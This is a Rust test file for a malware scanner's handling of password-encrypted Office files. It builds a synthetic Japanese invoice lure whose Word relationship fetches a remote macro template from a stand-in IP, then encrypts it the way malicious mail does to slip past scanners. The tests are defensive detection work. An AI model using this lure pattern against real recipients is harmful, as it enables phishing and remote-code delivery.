//! Office documents encrypted with a password: agile encryption as Excel 365 writes it (made
//! here by `ms-offcrypto-writer`, an independent writer, from a seeded generator), standard
//! encryption as Office 2007 writes it (`synth::office_encrypted`, checked once against
//! msoffcrypto-tool's decryption), and the RC4 encryption of the binary formats, which is
//! only told. An encrypted document opened with a candidate password (or Excel's built-in
//! one) is analysed as its member `EncryptedPackage`.

#![allow(clippy::unwrap_used, reason = "test helpers")]

mod common;

use std::io::{Cursor, Write};
use std::time::{Duration, Instant};

use common::{analyze, rules};
use kizuki_files::offcrypto::{self, Opened};
use kizuki_files::synth;
use rand_chacha::rand_core::SeedableRng;

/// A Word document whose settings load a remote template (`office.remote_template`): what an
/// encrypted lure hides from a scanner.
fn lure() -> Vec<u8> {
    synth::docx(
        &synth::para("請求書をご確認ください"),
        "",
        Some(
            r#"<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/>"#,
        ),
        &[],
    )
}

/// `package` in agile encryption under `password`, the same bytes on every run.
fn agile(package: &[u8], password: &str, seed: u64) -> Vec<u8> {
    let mut rng = rand_chacha::ChaCha20Rng::seed_from_u64(seed);
    let mut out = Cursor::new(Vec::new());
    {
        let mut w =
            ms_offcrypto_writer::Ecma376AgileWriter::create(&mut rng, password, &mut out).unwrap();
        w.write_all(package).unwrap();
        w.finalize().unwrap();
    }
    out.into_inner()
}

fn open(data: &[u8], passwords: &[&str]) -> Opened {
    let p: Vec<String> = passwords.iter().map(|p| p.to_string()).collect();
    offcrypto::find(data, 1 << 30)
        .expect("an encrypted package")
        .unwrap()
        .open(&p, Instant::now() + Duration::from_secs(60))
        .unwrap()
}

#[test]
fn encrypted_documents_are_opened_with_a_candidate_password() {
    let doc = lure();
    let sealed = [
        ("agile", agile(&doc, "請求書2016", 1)),
        ("standard", synth::office_encrypted(&doc, "請求書2016", 1)),
    ];
    for (how, data) in &sealed {
        // The package comes back whole, by the second candidate.
        match open(data, &["wrong", "請求書2016"]) {
            Opened::Plain { data: plain, by } => {
                assert_eq!(plain, doc, "{how}");
                assert_eq!(by, Some(1), "{how}");
            }
            o => panic!("{how}: {o:?}"),
        }
        assert!(
            matches!(open(data, &["請求書2017"]), Opened::NoPassword),
            "{how}"
        );
        // Opened, it is analysed as the document it holds.
        let r = analyze("請求書.docx", data, &["wrong", "請求書2016"]);
        let got = rules(&r);
        assert!(
            got.contains(&"office.password_opened".into()),
            "{how}: {got:?}"
        );
        assert!(
            got.contains(&"office.remote_template".into()),
            "{how}: {got:?}"
        );
        assert_eq!(r.children.len(), 1, "{how}");
        assert_eq!(r.children[0].path, "請求書.docx!EncryptedPackage");
        assert_eq!(r.children[0].file_type, "ooxml");
        // Without its password, it is told encrypted, and nothing in it is seen.
        let r = analyze("請求書.docx", data, &[]);
        let got = rules(&r);
        assert!(got.contains(&"office.encrypted".into()), "{how}: {got:?}");
        assert!(!got.contains(&"office.remote_template".into()), "{how}");
        // Office writes it as a compound file under its `.docx` name: no mismatch.
        assert!(!got.contains(&"type.mismatch".into()), "{how}: {got:?}");
        assert!(r.children.is_empty());
    }
    // The descriptor says how it was encrypted.
    let d = offcrypto::find(&sealed[0].1, 1 << 30)
        .unwrap()
        .unwrap()
        .describe();
    assert_eq!(d, "agile encryption (AES-256, SHA-512, 100000 spins)");
    let d = offcrypto::find(&sealed[1].1, 1 << 30)
        .unwrap()
        .unwrap()
        .describe();
    assert_eq!(d, "standard encryption (AES-128, SHA-1)");
    // A plain compound file is none.
    assert!(offcrypto::find(&synth::ole(None, false), 1 << 30).is_none());
}

/// Excel's built-in password opens a workbook without a prompt: malware mails use it to hide
/// what a scanner would see. Tried first, always, and told.
#[test]
fn excels_built_in_password_is_tried_and_told() {
    let book = synth::xlsx(20, 3);
    for (how, data) in [
        ("agile", agile(&book, offcrypto::DEFAULT_PASSWORD, 2)),
        (
            "standard",
            synth::office_encrypted(&book, offcrypto::DEFAULT_PASSWORD, 2),
        ),
    ] {
        match open(&data, &[]) {
            Opened::Plain { data: plain, by } => {
                assert_eq!(plain, book, "{how}");
                assert_eq!(by, None, "{how}");
            }
            o => panic!("{how}: {o:?}"),
        }
        let r = analyze("invoice.xlsx", &data, &[]);
        let got = rules(&r);
        assert!(
            got.contains(&"office.default_password".into()),
            "{how}: {got:?}"
        );
        assert!(!got.contains(&"office.encrypted".into()), "{how}: {got:?}");
        assert_eq!(r.children[0].path, "invoice.xlsx!EncryptedPackage");
    }
}

/// The binary formats' RC4 encryption is told, not read.
#[test]
fn encrypted_binary_documents_are_told() {
    fn cfb_of(stream: &str, data: &[u8]) -> Vec<u8> {
        let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        cf.create_stream(stream).unwrap().write_all(data).unwrap();
        cf.flush().unwrap();
        cf.into_inner().into_inner()
    }
    // Word: the FIB's fEncrypted flag.
    let mut fib = vec![0xEC, 0xA5, 0xC1, 0x00, 0, 0, 0, 0, 0, 0, 0x00, 0x01];
    fib.resize(512, 0);
    let doc = cfb_of("/WordDocument", &fib);
    assert!(rules(&analyze("a.doc", &doc, &[])).contains(&"office.encrypted".into()));
    fib[11] = 0;
    let doc = cfb_of("/WordDocument", &fib);
    assert!(!rules(&analyze("a.doc", &doc, &[])).contains(&"office.encrypted".into()));
    // Excel: FILEPASS after BOF.
    let mut book = Vec::new();
    book.extend_from_slice(&[0x09, 0x08, 16, 0]);
    book.extend_from_slice(&[0u8; 16]);
    book.extend_from_slice(&[0x2F, 0x00, 54, 0]);
    book.extend_from_slice(&[1u8; 54]);
    book.extend_from_slice(&[0x0A, 0x00, 0, 0]);
    let xls = cfb_of("/Workbook", &book);
    assert!(rules(&analyze("a.xls", &xls, &[])).contains(&"office.encrypted".into()));
    book[20] = 0x2E;
    let xls = cfb_of("/Workbook", &book);
    assert!(!rules(&analyze("a.xls", &xls, &[])).contains(&"office.encrypted".into()));
}

/// Hostile descriptors and packages: refused or told, never a panic, a hang or an
/// allocation of what a header declares.
#[test]
fn hostile_encrypted_documents_are_refused() {
    let doc = lure();
    let good = agile(&doc, "pw", 4);
    let std = synth::office_encrypted(&doc, "pw", 4);
    // Every byte changed in turn, and the file cut at many places: whatever comes of it, no
    // panic; a change in the package's body gives other bytes, never more than it holds.
    for data in [&good, &std] {
        for i in (0..data.len()).step_by(331) {
            let mut d = data.to_vec();
            d[i] ^= 0x5A;
            if let Some(Ok(e)) = offcrypto::find(&d, 1 << 30)
                && let Ok(Opened::Plain { data: p, .. }) =
                    e.open(&["pw".into()], Instant::now() + Duration::from_secs(60))
            {
                assert!(p.len() <= d.len());
            }
        }
        for cut in (0..data.len()).step_by(389) {
            if let Some(Ok(e)) = offcrypto::find(&data[..cut], 1 << 30) {
                let _ = e.open(&["pw".into()], Instant::now() + Duration::from_secs(60));
            }
        }
    }
    // A spin count past the specification's maximum is refused before any round.
    let info_of = |data: &[u8]| {
        let mut cf = cfb::CompoundFile::open(Cursor::new(data.to_vec())).unwrap();
        let s = cf.open_stream("/EncryptionInfo").unwrap();
        let v = kizuki_core::io::read_capped(s, 1 << 20).unwrap().unwrap();
        (cf, v)
    };
    let (mut cf, info) = info_of(&good);
    let text = String::from_utf8_lossy(&info[8..]).into_owned();
    assert!(text.contains("spinCount=\"100000\""), "{text}");
    let mut bad = info[..8].to_vec();
    bad.extend_from_slice(
        text.replace("spinCount=\"100000\"", "spinCount=\"2000000000\"")
            .as_bytes(),
    );
    cf.create_stream("/EncryptionInfo")
        .unwrap()
        .write_all(&bad)
        .unwrap();
    cf.flush().unwrap();
    let spun = cf.into_inner().into_inner();
    let (_, again) = info_of(&spun);
    assert_eq!(again, bad);
    let err = offcrypto::find(&spun, 1 << 30).unwrap().unwrap_err();
    assert!(err.contains("spin count 2000000000"), "{err}");
    let r = analyze("a.xlsx", &spun, &[]);
    assert!(rules(&r).contains(&"office.encrypted".into()));
    // A package larger than the budget is not read.
    let err = offcrypto::find(&good, 100).unwrap().unwrap_err();
    assert!(err.contains("larger than 100"), "{err}");
    // The rounds stop at the deadline.
    let e = offcrypto::find(&good, 1 << 30).unwrap().unwrap();
    assert!(matches!(
        e.open(&["pw".into()], Instant::now()).unwrap(),
        Opened::OutOfTime
    ));
}
